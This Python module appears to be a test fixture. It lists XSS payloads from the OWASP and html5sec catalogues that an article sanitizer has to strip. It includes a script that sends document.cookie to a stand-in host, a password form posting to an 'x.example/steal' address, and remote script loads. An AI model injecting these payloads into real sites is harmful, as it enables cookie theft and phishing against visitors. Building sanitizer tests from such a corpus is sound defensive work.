"""Hostile HTML an article body must never carry to a reader's browser.

Classic vectors from the OWASP XSS filter evasion cheat sheet and the html5sec
catalogue, written out here (no download): scripts, event handlers, URL
schemes hidden by entities/whitespace/case, SVG/MathML namespaces, CSS,
embedded documents, forms, meta refresh, mutation-XSS shapes and parser
confusion. Each line is one body an attacker (or a careless paste) could send.
"""

XSS_CORPUS = [
    # Script elements, in all their shapes
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<script/xss src=//xss.example/x.js></script>",
    "<p>an toàn</p><script>document.location='//x.example/?'+document.cookie</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    # Event handlers on allowed and unknown tags
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.jpg" onload="alert(1)">',
    '<IMG SRC=/ onerror="javascript:alert(String.fromCharCode(88,83,83))"></img>',
    '<p onclick="alert(1)">bấm vào đây</p>',
    '<a href="/" onmouseover="alert(1)">di chuột</a>',
    "<h2 onfocus=alert(1) tabindex=1 autofocus>tiêu đề</h2>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>chữ chạy</marquee>",
    '<figure onmouseenter="alert(1)"><img src="/a.jpg"><figcaption>x</figcaption></figure>',
    "<blockquote/onmouseover=alert(1)>trích dẫn</blockquote>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    # javascript:/vbscript:/data: URLs, hidden by case, entities, whitespace
    '<a href="javascript:alert(1)">liên kết</a>',
    '<a href="JaVaScRiPt:alert(1)">liên kết</a>',
    '<a href=" javascript:alert(1)">khoảng trắng</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(1)">xuống dòng</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex</a>',
    '<a href="javascript&colon;alert(1)">colon</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="livescript:alert(1)">ls</a>',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="\x01javascript:alert(1)">điều khiển</a>',
    '<a href="java\0script:alert(1)">null</a>',
    '<a href="javascript://%0Aalert(1)">comment</a>',
    '<a title="x" href="javascript:alert(1)" rel="opener" target="_blank">nhiều</a>',
    # Inline styles and CSS
    '<p style="background:url(javascript:alert(1))">kiểu</p>',
    '<p style="behavior:url(x.htc)">ie</p>',
    "<style>@import 'https://x.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width:expression(alert(1))">biểu thức</div>',
    '<link rel="stylesheet" href="https://x.example/x.css">',
    '<p class="x" id="y" style="color:red">thuộc tính</p>',
    # SVG / MathML namespaces
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    # Embedded documents and plugins
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://x.example/x.swf">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<applet code="x.class"></applet>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Forms and phishing
    '<form action="https://x.example/steal"><input name="password" type="password"></form>',
    '<button formaction="javascript:alert(1)">nút</button>',
    '<isindex action="javascript:alert(1)" type="image">',
    # Templates, comments and parser confusion (mutation XSS)
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p title="</p><script>alert(1)</script>">tiêu đề</p>',
    '<img alt="\'"><script>alert(1)</script>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<a href="/"><svg><desc><img src=x onerror=alert(1)></desc></svg></a>',
    '<table><tr><td background="javascript:alert(1)">ô</td></tr></table>',
    # Data attributes and ids that could drive page scripts
    '<img src="/a.jpg" data-file="1 onerror=alert(1)">',
    '<img src="/a.jpg" data-src="javascript:alert(1)" data-file="12">',
    '<p data-bind="html: evil" id="comment-form">ràng buộc</p>',
]
